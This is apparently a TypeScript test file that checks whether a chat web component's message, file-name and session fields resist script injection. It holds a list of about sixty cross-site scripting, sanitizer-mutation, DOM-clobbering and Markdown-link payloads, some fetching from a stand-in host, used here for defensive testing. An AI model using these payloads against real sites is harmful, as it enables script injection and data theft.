// What attackers write, wherever it can come in: nothing runs, nothing is fetched, nothing leaves its place.
// Families: OWASP "XSS Filter Evasion", DOMPurify's mutation and clobbering classes, Markdown renderers' own. The
// payloads are ours: each would set `window.hit`, or fetch from HOST.
import { afterEach, beforeEach, expect, test } from "vitest";
import { message } from "../test/messages.js";
import { ask, clear, frames, show } from "./page.js";
import type { Shown } from "./page.js";

const HOST = "hostile.invalid";
const HIT = "window.hit=1";
const FETCH = `https://${HOST}/x`;

const PAYLOADS: Record<string, string> = {
  script: `<script>${HIT}</script>`,
  "script from elsewhere": `<script src=//${HOST}/x.js></script>`,
  "script in svg": `<svg><script>${HIT}</script></svg>`,
  "image that fails": `<img src=x onerror=${HIT}>`,
  "image in capitals": `<IMG SRC=x ONERROR="${HIT}">`,
  "image without quotes or end": `<img src=\`x\` onerror=${HIT}//`,
  "image from elsewhere": `<img src=${FETCH}>`,
  "image set": `<img srcset="${FETCH} 2x">`,
  "svg that loads": `<svg/onload=${HIT}>`,
  "svg animation": `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  "svg use": `<svg><use href="${FETCH}#a"/></svg>`,
  "svg image": `<svg><image href=${FETCH} /></svg>`,
  "body that loads": `<body onload=${HIT}>`,
  "focus at once": `<input autofocus onfocus=${HIT}>`,
  details: `<details open ontoggle=${HIT}>x</details>`,
  video: `<video src=${FETCH} onerror=${HIT} autoplay></video>`,
  "audio source": `<audio><source src=${FETCH} onerror=${HIT}></audio>`,
  marquee: `<marquee onstart=${HIT}>x</marquee>`,
  iframe: `<iframe src="javascript:parent.hit=1"></iframe>`,
  "iframe document": `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  object: `<object data="${FETCH}"></object>`,
  embed: `<embed src=${FETCH}>`,
  base: `<base href=${FETCH}>`,
  "link style sheet": `<link rel=stylesheet href=${FETCH}.css>`,
  "link prefetch": `<link rel=prefetch href=${FETCH}>`,
  refresh: `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
  "style import": `<style>@import '${FETCH}.css';</style>`,
  "style of the page": `<style>* { background: url(${FETCH}) !important; position: fixed }</style>`,
  "style attribute": `<p style="position:fixed;inset:0;background:url(${FETCH})">x</p>`,
  form: `<form action=${FETCH}><button>send</button></form>`,
  "form that clobbers": `<form id=body><input name=firstChild><input name=attributes></form>`,
  "anchor that clobbers": `<a id=defaultView><a id=defaultView name=x href=${FETCH}>`,
  "mutation through math": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;">`,
  "mutation through svg": `<svg></p><style><a id="</style><img src=1 onerror=${HIT}>">`,
  "mutation through noscript": `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
  "mutation through select": `<select><template><img src=x onerror=${HIT}></template></select>`,
  "mutation through a comment": `<!--><img src=x onerror=${HIT}>-->`,
  template: `<template shadowrootmode=open><img src=x onerror=${HIT}></template>`,
  slot: `<slot name=x onslotchange=${HIT}></slot>`,
  "custom element": `<svc-chat base-url="https://${HOST}" api-key=svc_x></svc-chat>`,
  "zero byte": `<img src=x one\u0000rror=${HIT}><scr\u0000ipt>${HIT}</scr\u0000ipt>`,
  "line separator": `<img\u2028src=x\u2029onerror=${HIT}>`,
  entities: `&lt;img src=x onerror=${HIT}&gt; &#60;script&#62;${HIT}&#60;/script&#62;`,
  "link of script": `[x](javascript:${HIT})`,
  "link of script in capitals": `[x](JaVaScRiPt:${HIT})`,
  "link of script with entities": `[x](java&#x09;script&colon;${HIT})`,
  "link of script by reference": `[x][y]\n\n[y]: javascript:${HIT}`,
  "autolink of script": `<javascript:${HIT}>`,
  "link of data": `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=)`,
  "link of vbscript": `[x](vbscript:msgbox)`,
  "link title that breaks out": `[x](http://a.b 'y" onmouseover="${HIT}')`,
  "image of Markdown": `![x](${FETCH}.png)`,
  "image of Markdown by reference": `![x][y]\n\n[y]: ${FETCH}.png`,
  "image alt that breaks out": `![" onerror="${HIT}](x)`,
  "language that breaks out": `\`\`\`"><img src=x onerror=${HIT}>\nx\n\`\`\``,
  "code that ends early": `\`</code><img src=x onerror=${HIT}>\``,
  "cell that breaks out": `| a |\n|---|\n| </td></table><img src=x onerror=${HIT}> |`,
  "template of Lit": "${" + HIT + "} <?lit$0$?> {{lit-0}}",
  "template of a framework": `{{constructor.constructor('${HIT}')()}}`,
  formula: `$\\href{javascript:${HIT}}{x}$ $$\\unicode{x}$$`,
};

const PLACES: Record<string, (shown: Shown, payload: string) => Promise<void>> = {
  result: (shown, payload) => tell(shown, message(2, "result", { content: payload })),
  info: (shown, payload) => tell(shown, message(2, "info", { content: payload, actor: payload, title: payload })),
  thinking: (shown, payload) => tell(shown, message(2, "thinking", { content: payload })),
  source: (shown, payload) => tell(shown, message(2, "source", { title: payload, mime_type: payload })),
  "picture title": (shown, payload) =>
    tell(shown, message(2, "source", { title: payload, mime_type: "image/svg+xml", content: btoa("<svg/>") })),
  "picture content": (shown, payload) => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${HIT}">${payload}</svg>`;
    return tell(
      shown,
      message(2, "source", {
        mime_type: "image/svg+xml",
        content: btoa(String.fromCharCode(...new TextEncoder().encode(svg))),
      }),
    );
  },
  "picture's base64": (shown, payload) =>
    tell(shown, message(2, "source", { mime_type: "image/png", content: payload })),
  error: (shown, payload) =>
    tell(shown, message(2, "error", { content: payload, status_code: 500, status_message: payload, state: "end" })),
  "file name": async (shown, payload) => {
    shown.transport.uploads[0]?.done({ name: payload, size: 1 });
    await frames();
  },
  "session name": async (shown, payload) => {
    shown.element.setAttribute("session-name", payload);
    await frames();
  },
  example: async (shown, payload) => {
    shown.element.setAttribute("examples", JSON.stringify([{ title: payload, prompt: payload }]));
    await frames();
  },
};

async function tell(shown: Shown, ...messages: ReturnType<typeof message>[]): Promise<void> {
  await ask(shown, "who?");
  shown.transport.say(message(1, "query", { content: "who?" }), ...messages);
  await frames();
  shown.root.querySelector<HTMLElement>(".trace summary")?.click();
}

declare global {
  interface Window {
    hit?: number;
  }
}

let requests: string[];
const observer = new PerformanceObserver((list) => {
  requests.push(...list.getEntries().map(({ name }) => name));
});

beforeEach(() => {
  requests = [];
  delete window.hit;
  observer.observe({ type: "resource" });
});
afterEach(() => {
  observer.disconnect();
  clear();
});

const settle = () => new Promise((resolve) => setTimeout(resolve, 30)); // for what would run or load later

test.each(Object.keys(PLACES))(
  "nothing of any family runs or is fetched as %s",
  async (place) => {
    for (const [family, payload] of Object.entries(PAYLOADS)) {
      const shown = await show();
      const body = document.body.getBoundingClientRect();
      if (place === "file name") attachOne(shown);
      await frames(1);
      await PLACES[place]?.(shown, payload);
      await settle();

      expect([family, window.hit]).toEqual([family, undefined]);
      expect([family, requests.filter((address) => address.includes(HOST))]).toEqual([family, []]);
      expect([
        family,
        shown.all("script, iframe, object, embed, form[action], style, link, base, a, slot, svc-chat"),
      ]).toEqual([family, []]);
      expect([family, document.body.getBoundingClientRect()]).toEqual([family, body]);
      clear();
    }
  },
  60_000,
);

function attachOne(shown: Shown): void {
  const dropped = new DataTransfer();
  dropped.items.add(new File(["x"], "x"));
  shown.element.dispatchEvent(new DragEvent("drop", { dataTransfer: dropped, bubbles: true }));
}
